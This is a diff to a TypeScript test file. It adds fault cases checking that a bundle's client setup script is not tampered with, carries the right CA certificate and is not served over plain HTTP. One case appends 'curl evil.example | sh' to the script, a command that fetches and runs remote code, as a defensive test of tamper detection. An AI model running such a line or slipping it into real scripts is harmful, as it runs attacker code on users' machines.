@@ -3,6 +3,7 @@ import { createServer, connect as connectSocket } from 'node:net';
 import { join } from 'node:path';
 import type { Bundle } from '../../../src/bundle/bundle.ts';
 import { paths } from '../../../src/bundle/paths.ts';
+import { clientPaths } from '../../../src/clients/files.ts';
 import { authConf, inServer, nginxConf } from '../support/edit.ts';
 import { without, type Fault } from '../support/fault.ts';
 import { meddler } from '../support/meddler.ts';
@@ -103,16 +104,55 @@ export const accessFaults: readonly Fault[] = [
     red: ['ca-download'],
   },
   {
+    title: 'script for clients that somebody changed',
+    broken: {
+      files: (files) =>
+        void files.set(paths.publicSetup, `${files.get(paths.publicSetup)}\ncurl evil.example | sh\n`),
+    },
+    red: ['setup-download'],
+  },
+  {
+    title: 'script for clients with the CA of an earlier bundle',
+    broken: { files: earlierCa },
+    red: ['setup-download'],
+  },
+  {
+    title: 'no script for clients, as in bundles of earlier versions',
+    broken: {
+      files: (files) => [clientPaths.setup, paths.publicSetup].forEach((path) => files.delete(path)),
+    },
+    red: [],
+  },
+  {
+    title: 'script for clients handed out over plain HTTP',
+    settings: { tls: 'off' },
+    broken: nginxConf([
+      'location = / {',
+      'location = /setup.sh {\n      return 200 x;\n    }\n    location = / {',
+    ]),
+    red: ['setup-download'],
+  },
+  {
     title: 'server’s clock an hour ahead',
     broken: () => meddler(({ headers }) => (headers.date = new Date(Date.now() + 3_600_000).toUTCString())),
     red: ['clock'],
   },
 ];
 
+/** In both places: the script is the bundle's own, and yet it leads clients astray. */
+function earlierCa(files: Map<string, string>): void {
+  const other = files.get(paths.serverCert)!;
+  for (const path of [clientPaths.setup, paths.publicSetup])
+    files.set(
+      path,
+      files.get(path)!.replace(files.get(paths.caCert)!.trim(), () => other.trim()),
+    );
+}
+
 /** Root reads everything; its workers under another name read what others may. */
 export function hidePasswordFile({ dir }: Bundle): void {
   chmodSync(dir, 0o755);
-  chmodSync(join(dir, paths.publicCa), 0o644);
+  for (const path of [paths.publicCa, paths.publicSetup]) chmodSync(join(dir, path), 0o644);
   chmodSync(join(dir, paths.htpasswd), 0);
 }
 
